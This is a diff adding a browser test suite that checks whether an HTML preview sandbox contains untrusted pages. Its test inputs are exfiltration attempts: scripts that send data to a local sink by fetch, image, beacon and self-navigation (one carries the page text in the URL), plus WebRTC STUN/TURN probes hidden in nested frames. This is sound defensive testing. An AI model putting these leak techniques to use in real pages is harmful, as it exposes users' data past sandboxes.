@@ -1,0 +1,167 @@
+import { expect } from '@open-wc/testing';
+import {
+  PREVIEW_DIAGNOSTIC_CODES,
+  PREVIEW_ERROR_CODES,
+} from '../../../src/runtime/tools/preview/errors.js';
+import { mountPreview, type Mounted } from './harness.js';
+import { readSink, settleSink, sinkUrls, type SinkCounts } from './sink.js';
+
+const never = () => new AbortController().signal;
+let mounted: Mounted | undefined;
+const urls = sinkUrls((await readSink(true)).ports);
+afterEach(async () => {
+  mounted?.dispose();
+  mounted = undefined;
+  await readSink(true);
+});
+
+const nothingOut = (counts: SinkCounts) =>
+  expect({ http: counts.http, udp: counts.udp, tcp: counts.tcp }).to.deep.equal({
+    http: [],
+    udp: 0,
+    tcp: 0,
+  });
+
+// Every request a page can make without a navigation; each resolves or rejects quickly.
+const leak = (tag: string) => `<script>
+  fetch('${urls.http}/fetch-${tag}').catch(() => {});
+  new Image().src = '${urls.http}/image-${tag}';
+  navigator.sendBeacon && navigator.sendBeacon('${urls.http}/beacon-${tag}', 'x');
+  console.log('policy', document.head.firstElementChild && document.head.firstElementChild.getAttribute('http-equiv'), document.compatMode);
+</script>`;
+
+describe('preview containment: markup before or inside <head> (issue 12)', () => {
+  const cases: Record<string, (leakScript: string) => string> = {
+    'a script before <head>': (s) =>
+      `${s}<!doctype html><html><head><title>t</title></head><body>x</body></html>`,
+    'a ">" inside a <head> attribute': (s) =>
+      `<!doctype html><html><head data-x=">">${s}</head><body>x</body></html>`,
+    'a <head> inside a comment': (s) =>
+      `<!doctype html><!-- <head> --><html><head>${s}</head><body>x</body></html>`,
+    'text and a comment before <html>, no head': (s) => `hello <!-- c --><html>${s}<p>x</p></html>`,
+    'uppercase tags and a second head': (s) =>
+      `<!DOCTYPE html><HTML><HEAD></HEAD><HEAD>${s}</HEAD><BODY>x</BODY></HTML>`,
+    'a byte order mark': (s) => `\uFEFF<!doctype html><html><head>${s}</head></html>`,
+    "the page's own <base> and <meta http-equiv>": (s) =>
+      `<!doctype html><html><head><base href="${urls.http}/base/"><meta http-equiv="Content-Security-Policy" content="img-src *">${s}<link rel="stylesheet" href="x.css"></head></html>`,
+  };
+  for (const [name, build] of Object.entries(cases)) {
+    it(`keeps the policy and the bridge first with ${name}`, async () => {
+      mounted = mountPreview({ 'index.html': build(leak('head')) });
+      expect((await mounted.settle()).ok, 'acknowledged by the bridge').to.equal(true);
+      const line = await mounted.consoleLine(/^policy /);
+      expect(line.split(' ')[1]).to.equal('Content-Security-Policy');
+      nothingOut(await settleSink());
+    });
+  }
+
+  // An iframe srcdoc document is always in no-quirks mode (HTML spec), with or without one.
+  it('keeps the doctype and standards mode', async () => {
+    mounted = mountPreview({
+      'index.html': `<!DOCTYPE html><html><head>${leak('s')}</head></html>`,
+    });
+    expect((await mounted.consoleLine(/^policy /)).endsWith('CSS1Compat')).to.equal(true);
+    expect(mounted.controller.frame!.srcdoc).to.match(
+      /srcdoc='<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy"/,
+    );
+  });
+});
+
+describe('preview containment: self-navigation (issue 12)', () => {
+  const ways: Record<string, string> = {
+    'location.href': `<script>addEventListener('load', () => setTimeout(() => { location.href = '${urls.http}/href?d=' + document.body.textContent; }, 50));</script>`,
+    '<meta http-equiv=refresh>': `<meta http-equiv="refresh" content="0;url=${urls.http}/refresh">`,
+    'an anchor click()': `<a id="out" href="${urls.http}/anchor">out</a><script>addEventListener('load', () => setTimeout(() => document.getElementById('out').click(), 50));</script>`,
+    'location.reload()': `<script>addEventListener('load', () => setTimeout(() => location.reload(), 50));</script>`,
+    'window.open(url, "_self")': `<script>addEventListener('load', () => setTimeout(() => open('${urls.http}/open', '_self'), 50));</script>`,
+  };
+  for (const [name, script] of Object.entries(ways)) {
+    it(`blocks ${name}, resets the frame and never reports ready for the other document`, async () => {
+      mounted = mountPreview({ 'index.html': `<p>secret page text</p>${script}` });
+      const controller = mounted.controller;
+      await new Promise<void>((resolve) => {
+        const check = () =>
+          controller
+            .getStatus()
+            .diagnostics.some((d) => d.code === PREVIEW_DIAGNOSTIC_CODES.NAVIGATION_BLOCKED) &&
+          resolve();
+        controller.subscribe(check);
+        check();
+      });
+      const status = controller.getStatus();
+      expect(status.state).to.equal('error');
+      const outcome = await controller.waitForRevision(status.revision, never());
+      expect(!outcome.ok && outcome.error.code).to.equal(PREVIEW_ERROR_CODES.PREVIEW_RUNTIME_ERROR);
+      expect(controller.frame!.srcdoc).to.contain('The preview stopped');
+      nothingOut(await settleSink());
+    });
+  }
+});
+
+describe('preview containment: WebRTC (issue 12)', () => {
+  const attempt = (label: string) => `
+    try {
+      const pc = new RTCPeerConnection({ iceServers: [{ urls: '${urls.stun}' }, { urls: '${urls.turn}', username: 'secret', credential: 'secret' }] });
+      pc.createDataChannel('x');
+      pc.createOffer().then((offer) => pc.setLocalDescription(offer));
+      top.postMessage('${label} created', '*');
+    } catch (error) { top.postMessage('${label} ' + error.name, '*'); }`;
+  const page = `<p>x</p><script>
+    console.log('constructors', typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof RTCIceTransport);
+    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(typeof RTCPeerConnection)'])));
+    worker.onmessage = (event) => console.log('worker constructors', event.data);
+    ${attempt('main')}
+    const nested = document.createElement('iframe');
+    nested.srcdoc = '<script>${attempt('nested').replace(/'/g, "\\'").replace(/\n/g, ' ')}<\\/script>';
+    document.body.append(nested);
+    const holder = document.createElement('div');
+    holder.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="<script>top.postMessage(typeof RTCPeerConnection, &quot;*&quot;)<\\/script>"></iframe>';
+    document.body.append(holder);
+    const js = document.createElement('iframe');
+    js.src = 'javascript:"<script>top.postMessage(typeof RTCPeerConnection, \\'*\\')<\\/script>"';
+    document.body.append(js);
+  </script>
+  <iframe srcdoc="<script>top.postMessage('static ' + typeof RTCPeerConnection, '*')</script>"></iframe>`;
+
+  it('removes the constructors in the frame and in nested frames; no STUN or TURN packet leaves', async () => {
+    const seen: string[] = [];
+    const listen = (event: MessageEvent) => typeof event.data === 'string' && seen.push(event.data);
+    window.addEventListener('message', listen);
+    try {
+      mounted = mountPreview({ 'index.html': page });
+      expect((await mounted.settle()).ok).to.equal(true);
+      expect(await mounted.consoleLine(/^constructors/)).to.equal(
+        'constructors undefined undefined undefined',
+      );
+      expect(await mounted.consoleLine(/^worker constructors/)).to.equal(
+        'worker constructors undefined',
+      );
+      nothingOut(await settleSink(1000));
+      expect(seen.filter((text) => /created|function/.test(text))).to.deep.equal([]);
+    } finally {
+      window.removeEventListener('message', listen);
+    }
+  });
+
+  it('control: the same servers see STUN and TURN from a page without the guard', async () => {
+    const pc = new RTCPeerConnection({
+      iceServers: [{ urls: urls.stun }, { urls: urls.turn, username: 'u', credential: 'c' }],
+    });
+    pc.createDataChannel('x');
+    await pc.setLocalDescription(await pc.createOffer());
+    let counts = await readSink();
+    while (counts.udp === 0 || counts.tcp === 0) {
+      await new Promise((resolve) => setTimeout(resolve, 50));
+      counts = await readSink();
+    }
+    pc.close();
+    await readSink(true);
+    expect(counts.udp).to.be.greaterThan(0);
+    expect(counts.tcp).to.be.greaterThan(0);
+  });
+
+  it('control: the sink counts a request from a page without the policy', async () => {
+    await fetch(`${urls.http}/control`, { mode: 'no-cors' });
+    expect((await readSink(true)).http).to.deep.equal(['GET /control']);
+  });
+});
